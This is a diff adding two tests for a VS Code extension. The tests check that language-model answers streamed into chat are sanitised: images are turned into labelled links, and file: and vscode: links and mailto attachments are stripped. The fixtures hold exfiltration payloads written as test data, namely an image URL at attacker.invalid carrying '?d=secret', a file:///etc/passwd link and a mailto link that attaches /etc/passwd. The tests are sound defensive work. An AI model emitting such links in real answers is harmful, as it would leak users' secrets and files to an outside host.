@@ -96,6 +96,47 @@ describe("the service's models in vscode.lm", () => {
     );
   });
 
+  it("hands VS Code's chat Markdown by the chat's link rule: images as links, refused links as text, where links go shown", async () => {
+    // The local service streams this one token at a time, so every link arrives cut into pieces.
+    await api('/_local/next-answer', {
+      text:
+        'Look: ![chart](https://attacker.invalid/c.png?d=secret) [the docs](https://docs.example/a), [a file](file:///etc/passwd), ' +
+        '[mail](mailto:a@example.com?subject=Hi&attach=/etc/passwd).\n\n```md\n![kept](https://attacker.invalid/k.png)\n```\n',
+    });
+    const response = await (await model('svc_llm')).sendRequest([vscode.LanguageModelChatMessage.User('Where are the docs?')]);
+    assert.equal(
+      await answerText(response),
+      'Look: [chart (attacker.invalid)](<https://attacker.invalid/c.png?d=secret>) [the docs (docs.example)](<https://docs.example/a>), ' +
+        'a file, [mail (a@example.com)](<mailto:a@example.com?subject=Hi>).\n\n```md\n![kept](https://attacker.invalid/k.png)\n```\n',
+    );
+  });
+
+  it("@maas hands VS Code's chat its answer by the same rule, cut into pieces as it streams", async () => {
+    await api('/_local/next-answer', {
+      text: 'See ![chart](https://attacker.invalid/c.png) and [the docs](https://docs.example/a); not [this](vscode:extension/x.y).\n',
+    });
+    const handler = (await hook()).participantHandler();
+    assert.ok(handler, '@maas is registered');
+    const pieces: string[] = [];
+    const stream = {
+      markdown: (value: string | vscode.MarkdownString) => pieces.push(typeof value === 'string' ? value : value.value),
+      progress: () => undefined,
+      button: () => undefined,
+      reference: () => undefined,
+    } as unknown as vscode.ChatResponseStream;
+    const request = { prompt: 'Where are the docs?', references: [], toolReferences: [], model: await model('svc_llm') } as unknown as vscode.ChatRequest;
+    await handler(request, { history: [] }, stream, new vscode.CancellationTokenSource().token);
+    assert.equal(
+      pieces.join(''),
+      'See [chart (attacker.invalid)](<https://attacker.invalid/c.png>) and [the docs (docs.example)](<https://docs.example/a>); not this.\n',
+    );
+    assert.ok(pieces.length > 1, 'the answer streamed in pieces');
+    assert.ok(
+      pieces.every((piece) => !piece.includes('![')),
+      'no piece shows the start of an image',
+    );
+  });
+
   it('an image part reaches the vision model as a data: URL', async () => {
     const vl = await model('svc_vl');
     const message = vscode.LanguageModelChatMessage.User([new vscode.LanguageModelTextPart('What is in this picture?'), imagePart(40, 30)]);
